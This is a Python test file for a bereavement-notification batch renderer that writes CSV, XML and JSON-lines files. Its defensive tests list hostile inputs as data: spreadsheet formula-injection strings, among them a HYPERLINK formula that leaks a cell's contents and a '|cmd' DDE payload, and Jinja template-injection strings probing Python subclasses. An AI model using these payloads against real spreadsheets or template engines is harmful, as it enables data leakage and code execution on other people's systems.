"""Batch files: the messages and nothing else in three layouts, safe in a spreadsheet, the same bytes every time."""

import csv
import io
import json
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jinja2.exceptions import UndefinedError

from tellusonce.domain.agency import Agency
from tellusonce.domain.channel import Layout
from tellusonce.rendering.batch_file import BatchFileRenderer
from tellusonce.rendering.message import MessageRenderer
from tellusonce.settings import Settings
from tests.builders import a_bereavement, an_agency
from tests.rendering.claims import a_claimed, at_noon

_TEMPLATES = Settings().templates_dir / "batch_files"
_FIELDS = (
    "deceased.given_names",
    "deceased.family_name",
    "deceased.address.lines",
    "deceased.address.postcode",
    "informant.telephone",
)
_FORMULA_STARTS = tuple("=+-@\t\r\n＝＋－＠")  # noqa: RUF001 - full-width forms are taken for the others

_texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=30)


@pytest.mark.parametrize("layout", list(Layout))
def test_the_same_messages_make_the_same_file(layout: Layout) -> None:
    """A batch that is placed again has the same bytes, so that its digest tells."""
    messages = [_message(), _message()]
    assert _rendered(layout, *messages) == _rendered(layout, *messages)


def test_json_lines_are_the_messages() -> None:
    """A line of JSON lines is the message to the byte, as it would be pushed."""
    messages = [_message(), _message()]
    assert _rendered(Layout.JSON_LINES, *messages).split(b"\n") == [*messages, b""]


def test_csv_has_a_row_for_each_message() -> None:
    """Each row has the event's own attributes, what is said of the report, and the facts by their paths."""
    message = _message()
    (row,) = _rows(_rendered(Layout.CSV, message))
    event = json.loads(message)
    assert row == {
        "id": event["id"],
        "type": "tellusonce.bereavement.original",
        "subject": "7K4-M92-QXD",
        "time": event["time"],
        "version": "1",
        "sequence": "1",
        "provisional": "false",
        "reason": "",
        "changed": "",
        "statement": "",
        "benefits": "state-pension",
        "gateway": "Social Security Administration Act 1992, section 125",
        "agreement_version": "1.0",
        "receipt_due_on": "2026-03-20",
        "outcome_due_on": "2026-04-02",
        "deceased.given_names": "Margaret Ann",
        "deceased.family_name": "Holloway",
        "deceased.address.lines": "14 Mill Lane; Holmshire",
        "deceased.address.postcode": "HO1 2AB",
        "informant.telephone": "'+441632960001",
    }


@pytest.mark.parametrize("kind", ["original", "correction", "withdrawal"])
def test_csv_knows_all_that_a_message_says(kind: str) -> None:
    """No message has a name for which there is no column."""
    corrected: dict[str, Any] = (
        {} if kind == "original" else {"reason": "clerical", "changed": ("deceased.family_name",)}
    )
    (row,) = _rows(_rendered(Layout.CSV, _message(kind=kind, provisional=True, version=2, **corrected)))
    assert row["type"] == f"tellusonce.bereavement.{kind}"


def test_columns_change_with_the_agreements_alone() -> None:
    """All fields of the agency's agreements have their column in every file, whichever facts are known."""
    few, many = _message(fields=_FIELDS[:1]), _message()
    header = _rendered(Layout.CSV, few).split(b"\r\n")[0]
    assert header == _rendered(Layout.CSV, many, few).split(b"\r\n")[0] == _rendered(Layout.CSV).split(b"\r\n")[0]
    assert header.endswith(b",".join(f'"{field}"'.encode() for field in _FIELDS))


def test_csv_is_as_spreadsheets_take_it() -> None:
    """UTF-8 with a byte order mark, every cell quoted, lines ended by CR and LF (RFC 4180)."""
    file = _rendered(Layout.CSV, _message(facts=a_bereavement(deceased__family_name='Tŷ "Gwyn"')))
    assert file.startswith(b'\xef\xbb\xbf"id","type",')
    assert '"Tŷ ""Gwyn"""'.encode() in file
    assert file.count(b"\r\n") == file.count(b"\n") == 2


@given(name=_texts, line=_texts)
def test_no_cell_is_a_formula(name: str, line: str) -> None:
    """No cell begins with what a spreadsheet takes for a formula; dropping one apostrophe gives what was sent (S7)."""
    facts = a_bereavement(deceased__family_name=name, deceased__address__lines=[line, "Holmshire"])
    (row,) = _rows(_rendered(Layout.CSV, _message(facts=facts)))
    assert not any(cell.startswith(_FORMULA_STARTS) for cell in row.values())
    assert row["deceased.family_name"].removeprefix("'") == name
    assert row["deceased.address.lines"].removeprefix("'") == f"{line}; Holmshire"


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://agency.example.org/?"&A1,"more")',
        "+1+1|cmd!A0",
        "-2+3",
        "@SUM(1;1)",
        "\t=1+1",
        "\r=1+1",
        "＝1＋1",  # noqa: RUF001
    ],
)
def test_known_formulas_are_quoted(attack: str) -> None:
    """What is known to run in spreadsheets begins with an apostrophe instead."""
    (row,) = _rows(_rendered(Layout.CSV, _message(facts=a_bereavement(deceased__family_name=attack))))
    assert row["deceased.family_name"] == f"'{attack}"


def test_xml_says_the_same() -> None:
    """The XML has an element for each message, with every fact by its path and lists as elements of one name."""
    message = _message(benefits=("state-pension", "pension-credit"))
    (notification,) = ET.fromstring(_rendered(Layout.XML, message))
    event = json.loads(message)
    assert notification.attrib == {name: event[name] for name in ("id", "type", "subject", "time")}
    assert [each.text for each in notification.iterfind("benefits")] == ["state-pension", "pension-credit"]
    assert notification.findtext("outcome_due_on") == "2026-04-02"
    assert [(fact.get("field"), fact.text) for fact in notification.iterfind("facts/fact")] == [
        ("deceased.given_names", "Margaret Ann"),
        ("deceased.family_name", "Holloway"),
        ("deceased.address.lines", "14 Mill Lane"),
        ("deceased.address.lines", "Holmshire"),
        ("deceased.address.postcode", "HO1 2AB"),
        ("informant.telephone", "+441632960001"),
    ]


@given(st.text(max_size=30).filter(lambda text: "\r" not in text), st.integers(0, 3))
def test_xml_is_well_formed_whatever_is_said(name: str, count: int) -> None:
    """Markup is text, and characters that XML cannot hold are replaced."""
    name = name.encode(errors="replace").decode()
    messages = [_message(facts=a_bereavement(deceased__family_name=name)) for _ in range(count)]
    notifications = ET.fromstring(_rendered(Layout.XML, *messages))
    assert notifications.attrib == {"agency": "dwp-state-pension", "count": str(count)}
    for fact in notifications.iterfind("notification/facts/fact[@field='deceased.family_name']"):
        assert len(fact.text or "") == len(name)


@pytest.mark.parametrize("attack", ["{{ 7 * 7 }}", "{% for x in ().__class__.__base__.__subclasses__() %}", "]]><x/>"])
def test_xml_runs_nothing(attack: str) -> None:
    """What looks like a template or like markup stands there as it was given (S7)."""
    notifications = ET.fromstring(_rendered(Layout.XML, _message(facts=a_bereavement(deceased__family_name=attack))))
    assert notifications.findtext("notification/facts/fact[@field='deceased.family_name']") == attack


@pytest.mark.parametrize("template", ["{{ secret }}", "{{ notifications[0].data.nothing }}", "{{ notifications.x.y }}"])
def test_a_template_cannot_name_what_is_not_there(tmp_path: Path, template: str) -> None:
    """A template of the operator's that asks for more than the messages say is an error and no empty text."""
    (tmp_path / "notifications.xml").write_text(template)
    with pytest.raises(UndefinedError):
        BatchFileRenderer(tmp_path).render(_agency(), Layout.XML, [_message()])


@pytest.mark.parametrize("layout", list(Layout))
def test_no_fact_that_is_not_allowed_is_in_it(layout: Layout) -> None:
    """A fact outside the notification's fields is in no layout."""
    file = _rendered(layout, _message(fields=("deceased.given_names",)))
    assert b"Margaret Ann" in file
    assert b"Holloway" not in file


def _agency() -> Agency:
    return an_agency(agreements__bereavement__fields=_FIELDS, agreements__bereavement__needs=())


def _message(**overrides: Any) -> bytes:
    claimed = a_claimed(**{"fields": _FIELDS} | overrides)
    return MessageRenderer({claimed.agency: _agency()}, "https://tellusonce.example.org", at_noon).render(claimed)


def _rendered(layout: Layout, *messages: bytes) -> bytes:
    return BatchFileRenderer(_TEMPLATES).render(_agency(), layout, messages)


def _rows(file: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(file.decode("utf-8-sig"), newline=""), strict=True))
